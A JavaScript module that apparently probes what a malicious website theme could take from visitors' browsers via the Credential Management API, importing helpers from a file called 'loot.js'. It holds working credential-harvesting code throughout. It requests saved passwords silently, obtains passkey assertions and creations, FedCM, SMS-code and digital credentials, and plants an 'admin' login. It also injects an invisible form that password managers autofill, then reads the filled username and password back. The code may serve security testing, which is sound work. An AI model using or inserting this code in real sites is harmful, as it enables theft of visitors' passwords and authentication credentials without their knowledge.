import { afterMs, grab, grabAll } from './loot.js';

/** Everything from which the browser could hand out a login. Needs a click in the page before, as a visitor makes. */
export function stealCredentials() {
  const mediations = ['silent', 'optional'];
  return grabAll([
    ...mediations.map((mediation) => [
      `password, ${mediation}`,
      async () => describePassword(await navigator.credentials.get({ password: true, mediation })),
    ]),
    ['a hidden form', readHiddenForm],
  ]);
}

/** Web Authentication with a challenge that somebody else would send to the hub, and the other kinds of credentials. */
export function usePasskeys({ rpId, challenge }) {
  return grabAll([
    [
      'assertion',
      async () => describeKey(await navigator.credentials.get({ publicKey: ask(rpId, challenge) })),
    ],
    [
      'new passkey',
      async () => describeKey(await navigator.credentials.create({ publicKey: make(rpId, challenge) })),
    ],
    [
      'federated login',
      async () =>
        describeKey(
          await navigator.credentials.get({
            identity: {
              providers: [{ configURL: `${location.origin}/fedcm.json`, clientId: 'x', nonce: 'x' }],
            },
          }),
        ),
    ],
    [
      'code by SMS',
      async () => describeKey(await navigator.credentials.get({ otp: { transport: ['sms'] } })),
    ],
    [
      'digital credential',
      async () =>
        describeKey(
          await navigator.credentials.get({
            digital: { requests: [{ protocol: 'openid4vp-v1-unsigned', data: {} }] },
          }),
        ),
    ],
  ]);
}

/** Saves a login of the theme's own, which the browser would then fill in. */
export async function plantPassword() {
  return [
    await grab('stored', async () => {
      const planted = new PasswordCredential({ id: 'admin', password: 'planted by a theme' });
      return String(await navigator.credentials.store(planted));
    }),
  ];
}

/** Invisible to the visitor; password managers fill it in all the same. */
async function readHiddenForm() {
  await afterMs(1000);
  const fields = [...document.querySelectorAll('#trap input')];
  return fields.map(({ name, value }) => `${name}=${value}`).join(' ');
}

/** The form must be in the page when it loads. */
export function setTrap() {
  const form = document.createElement('form');
  form.id = 'trap';
  form.style.cssText = 'position: fixed; inset: 0 auto auto 0; opacity: 0; pointer-events: none';
  form.innerHTML =
    '<input name="username" autocomplete="username"><input name="password" type="password" autocomplete="current-password">';
  document.body.append(form);
}

function ask(rpId, challenge) {
  return { challenge: encode(challenge), rpId, userVerification: 'preferred', timeout: 2000 };
}

function make(rpId, challenge) {
  return {
    challenge: encode(challenge),
    rp: { id: rpId, name: 'Muster' },
    user: { id: encode('1'), name: 'admin', displayName: 'admin' },
    pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
    authenticatorSelection: { residentKey: 'required' },
    timeout: 2000,
  };
}

const encode = (text) => new TextEncoder().encode(text);

function describePassword(credential) {
  return credential === null ? 'none' : `${credential.id} with ${credential.password}`;
}

function describeKey(credential) {
  if (credential === null) return 'none';
  const { clientDataJSON } = credential.response ?? {};
  return `obtained a ${credential.type} ${clientDataJSON === undefined ? '' : new TextDecoder().decode(clientDataJSON)}`;
}
